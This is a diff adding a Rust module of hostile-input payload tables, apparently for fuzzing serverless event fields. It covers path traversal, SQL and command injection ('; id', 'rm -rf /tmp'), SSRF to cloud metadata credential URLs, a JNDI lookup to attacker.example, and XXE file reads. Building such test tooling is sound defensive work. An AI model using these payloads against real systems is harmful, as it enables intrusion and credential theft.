@@ -1,0 +1,364 @@
+//! Hostile payload families: the strings an attacker puts into an event field, grouped by the
+//! weakness they probe. Which families a field gets depends on what the field is (a key, a URL,
+//! free text) and, for free text, on the sinks the function writes to (see [`crate::Plan`]).
+
+use serde::{Deserialize, Serialize};
+
+/// A family of hostile inputs.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum Family {
+    /// `../` sequences, absolute paths and NUL bytes.
+    Traversal,
+    /// Traversal hidden behind percent, double-percent, overlong UTF-8 and mixed encodings.
+    EncodedTraversal,
+    /// SQL injection.
+    Sql,
+    /// NoSQL operator injection (`{"$ne": null}`, `$where`), for JSON fields.
+    NoSql,
+    /// OS command injection.
+    Command,
+    /// Server-side template injection.
+    Template,
+    /// Log forging: CR/LF, ANSI escapes, fake log lines.
+    LogInjection,
+    /// Markup that runs script when echoed into HTML.
+    Markup,
+    /// URLs pointing at the cloud metadata service, loopback and internal hosts.
+    Ssrf,
+    /// Keys that pollute JavaScript prototypes (`__proto__`, `constructor`).
+    PrototypePollution,
+    /// printf-style format strings.
+    FormatString,
+    /// Boundary, huge, negative and non-finite numbers, as text.
+    Numbers,
+    /// Odd Unicode: combining marks, right-to-left overrides, zero-width characters, characters
+    /// outside the basic plane, lookalikes; and invalid UTF-8 where bytes are allowed.
+    Unicode,
+    /// XML external entities.
+    Xxe,
+}
+
+impl Family {
+    /// Every family, in a stable order.
+    pub const ALL: [Family; 14] = [
+        Family::Traversal,
+        Family::EncodedTraversal,
+        Family::Sql,
+        Family::NoSql,
+        Family::Command,
+        Family::Template,
+        Family::LogInjection,
+        Family::Markup,
+        Family::Ssrf,
+        Family::PrototypePollution,
+        Family::FormatString,
+        Family::Numbers,
+        Family::Unicode,
+        Family::Xxe,
+    ];
+
+    /// The family's payloads, as they would be typed into the field.
+    #[must_use]
+    #[allow(clippy::too_many_lines, reason = "a table of payloads")]
+    pub fn payloads(self) -> &'static [&'static str] {
+        match self {
+            Family::Traversal => &[
+                "../../../../etc/passwd",
+                "../",
+                "..\\..\\windows\\win.ini",
+                "/etc/passwd",
+                "....//....//etc/passwd",
+                "uploads/../../secret",
+                "a/b/../../../c",
+                "file\u{0}.jpg",
+                "/proc/self/environ",
+            ],
+            Family::EncodedTraversal => &[
+                "%2e%2e%2f",
+                "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+                "%2E%2E/%2E%2E/secret",
+                "..%2f..%2fsecret",
+                "%252e%252e%252f",
+                "..%252f..%252f",
+                "%c0%ae%c0%ae%c0%af",
+                "..%c0%af",
+                "%2e%2e%5c",
+                "..%5c..%5c",
+                "%00",
+            ],
+            Family::Sql => &[
+                "' OR '1'='1",
+                "1; DROP TABLE orders;--",
+                "' UNION SELECT NULL,NULL--",
+                "\" OR \"\"=\"",
+                "1' AND SLEEP(5)--",
+                "'||(SELECT pg_sleep(5))||'",
+                "admin'--",
+            ],
+            Family::NoSql => &[
+                "{\"$ne\": null}",
+                "{\"$gt\": \"\"}",
+                "{\"$where\": \"sleep(5000)\"}",
+                "{\"$regex\": \".*\"}",
+                "'; return true; var x='",
+            ],
+            Family::Command => &[
+                "; id",
+                "| cat /etc/passwd",
+                "$(id)",
+                "`id`",
+                "&& curl http://169.254.169.254/",
+                "\nid\n",
+                "-o /tmp/x",
+                "photo.jpg; rm -rf /tmp",
+            ],
+            Family::Template => &[
+                "{{7*7}}",
+                "${7*7}",
+                "<%= 7*7 %>",
+                "#{7*7}",
+                "{{constructor.constructor('return process')()}}",
+                "${jndi:ldap://attacker.example/a}",
+            ],
+            Family::LogInjection => &[
+                "x\r\nINFO admin logged in",
+                "\n[ERROR] forged entry",
+                "\u{1b}[2J\u{1b}[31mred",
+                "%0d%0aSet-Cookie: a=b",
+                "\r\n\r\n<html>",
+            ],
+            Family::Markup => &[
+                "<script>alert(1)</script>",
+                "\"><img src=x onerror=alert(1)>",
+                "javascript:alert(1)",
+                "<svg onload=alert(1)>",
+                "'-alert(1)-'",
+            ],
+            Family::Ssrf => &[
+                "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+                "http://[fd00:ec2::254]/latest/meta-data/",
+                "http://localhost:2773/",
+                "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next",
+                "file:///etc/passwd",
+                "http://0x7f000001/",
+                "gopher://127.0.0.1:6379/_INFO",
+                "http://attacker.example@169.254.169.254/",
+            ],
+            Family::PrototypePollution => &[
+                "__proto__",
+                "constructor",
+                "prototype",
+                "__proto__.isAdmin",
+                "constructor.prototype.isAdmin",
+            ],
+            Family::FormatString => &["%s%s%s%s", "%n%n", "%x%x%x", "{0}{1}", "%999999999d"],
+            Family::Numbers => &[
+                "0",
+                "-1",
+                "-0",
+                "2147483648",
+                "-2147483649",
+                "4294967296",
+                "9223372036854775807",
+                "9223372036854775808",
+                "-9223372036854775808",
+                "18446744073709551616",
+                "1e308",
+                "1e309",
+                "NaN",
+                "Infinity",
+                "0.1e-400",
+                "00012",
+                "0x10",
+            ],
+            Family::Unicode => &[
+                "\u{202e}gpj.exe",
+                "e\u{301}\u{301}\u{301}\u{301}",
+                "\u{200b}\u{200d}\u{feff}",
+                "\u{1f600}\u{1f600}\u{1f600}",
+                "ａｄｍｉｎ",
+                "İ",
+                "\u{fffd}",
+                "a\u{0}b",
+                "ß\u{10ffff}",
+            ],
+            Family::Xxe => &[
+                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
+                "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://169.254.169.254/\"> %p;]>",
+            ],
+        }
+    }
+
+    /// The family's name as the model and the findings spell it.
+    #[must_use]
+    pub fn name(self) -> &'static str {
+        match self {
+            Family::Traversal => "traversal",
+            Family::EncodedTraversal => "encoded-traversal",
+            Family::Sql => "sql",
+            Family::NoSql => "no-sql",
+            Family::Command => "command",
+            Family::Template => "template",
+            Family::LogInjection => "log-injection",
+            Family::Markup => "markup",
+            Family::Ssrf => "ssrf",
+            Family::PrototypePollution => "prototype-pollution",
+            Family::FormatString => "format-string",
+            Family::Numbers => "numbers",
+            Family::Unicode => "unicode",
+            Family::Xxe => "xxe",
+        }
+    }
+}
+
+/// What a string field holds, which decides the payload families it gets.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Role {
+    /// An object key, file name or path inside a store.
+    Key,
+    /// A URL path or route.
+    Path,
+    /// A URL the function may fetch.
+    Url,
+    /// Free text that reaches the function's sinks.
+    Text,
+    /// An identifier (order id, user name).
+    Id,
+    /// A number carried as text.
+    Number,
+    /// An e-mail address.
+    Email,
+}
+
+impl Role {
+    /// The families always tried for this role; free text adds the plan's sink families.
+    #[must_use]
+    pub fn families(self) -> &'static [Family] {
+        match self {
+            Role::Key => &[
+                Family::Traversal,
+                Family::EncodedTraversal,
+                Family::Unicode,
+                Family::Command,
+            ],
+            Role::Path => &[Family::Traversal, Family::EncodedTraversal, Family::Unicode],
+            Role::Url => &[Family::Ssrf, Family::EncodedTraversal],
+            Role::Text => &[
+                Family::Markup,
+                Family::LogInjection,
+                Family::FormatString,
+                Family::Unicode,
+                Family::Template,
+            ],
+            Role::Id => &[
+                Family::Sql,
+                Family::NoSql,
+                Family::Traversal,
+                Family::Unicode,
+                Family::PrototypePollution,
+            ],
+            Role::Number => &[Family::Numbers],
+            Role::Email => &[Family::Unicode, Family::Sql, Family::Markup],
+        }
+    }
+}
+
+/// Percent-encodes every byte that is not unreserved (RFC 3986).
+#[must_use]
+pub fn percent_encode(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() * 3);
+    for byte in text.bytes() {
+        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_' | b'~') {
+            out.push(char::from(byte));
+        } else {
+            out.push_str(&format!("%{byte:02X}"));
+        }
+    }
+    out
+}
+
+/// Encodes an S3 object key the way S3 event notifications carry it: form-urlencoded, with
+/// spaces as `+` and `/` kept.
+#[must_use]
+pub fn s3_event_key(key: &str) -> String {
+    let mut out = String::with_capacity(key.len() * 3);
+    for byte in key.bytes() {
+        match byte {
+            b' ' => out.push('+'),
+            b'/' | b'-' | b'.' | b'_' | b'~' | b'*' => out.push(char::from(byte)),
+            _ if byte.is_ascii_alphanumeric() => out.push(char::from(byte)),
+            _ => out.push_str(&format!("%{byte:02X}")),
+        }
+    }
+    out
+}
+
+/// Tokens for a libFuzzer dictionary: every payload of the families, quoted and escaped as the
+/// dictionary format wants.
+#[must_use]
+pub fn dictionary(families: &[Family]) -> Vec<String> {
+    let mut tokens: Vec<String> = families
+        .iter()
+        .flat_map(|f| f.payloads().iter())
+        .map(|p| dictionary_entry(p))
+        .collect();
+    tokens.sort();
+    tokens.dedup();
+    tokens
+}
+
+/// One dictionary line's value: `"..."` with `\\`, `\"` and `\xNN` escapes.
+#[must_use]
+pub fn dictionary_entry(token: &str) -> String {
+    let mut out = String::from("\"");
+    for byte in token.bytes() {
+        match byte {
+            b'"' => out.push_str("\\\""),
+            b'\\' => out.push_str("\\\\"),
+            0x20..=0x7e => out.push(char::from(byte)),
+            _ => out.push_str(&format!("\\x{byte:02X}")),
+        }
+    }
+    out.push('"');
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn s3_keys_are_form_encoded_like_s3_does() {
+        assert_eq!(s3_event_key("a b/c+d.jpg"), "a+b/c%2Bd.jpg");
+        assert_eq!(s3_event_key("%2e%2e%2f"), "%252e%252e%252f");
+        assert_eq!(s3_event_key("é"), "%C3%A9");
+    }
+
+    #[test]
+    fn dictionary_entries_escape_quotes_backslashes_and_bytes() {
+        assert_eq!(dictionary_entry("a\"b\\c\n"), "\"a\\\"b\\\\c\\x0A\"");
+        assert_eq!(dictionary_entry("é"), "\"\\xC3\\xA9\"");
+        let tokens = dictionary(&Family::ALL);
+        assert!(tokens.iter().all(|t| t.is_ascii() && t.starts_with('"')));
+        assert!(tokens.windows(2).all(|w| w[0] < w[1]), "sorted and unique");
+    }
+
+    #[test]
+    fn every_family_has_payloads_and_a_distinct_name() {
+        let mut names: Vec<_> = Family::ALL.iter().map(|f| f.name()).collect();
+        names.sort_unstable();
+        names.dedup();
+        assert_eq!(names.len(), Family::ALL.len());
+        assert!(Family::ALL.iter().all(|f| !f.payloads().is_empty()));
+    }
+
+    #[test]
+    fn encoded_traversal_decodes_to_traversal() {
+        // The point of the family: no `..` before decoding, `../` after.
+        let hidden = "%2e%2e%2f";
+        assert!(!hidden.contains(".."));
+        let decoded = hidden.replace("%2e", ".").replace("%2f", "/");
+        assert_eq!(decoded, "../");
+    }
+}
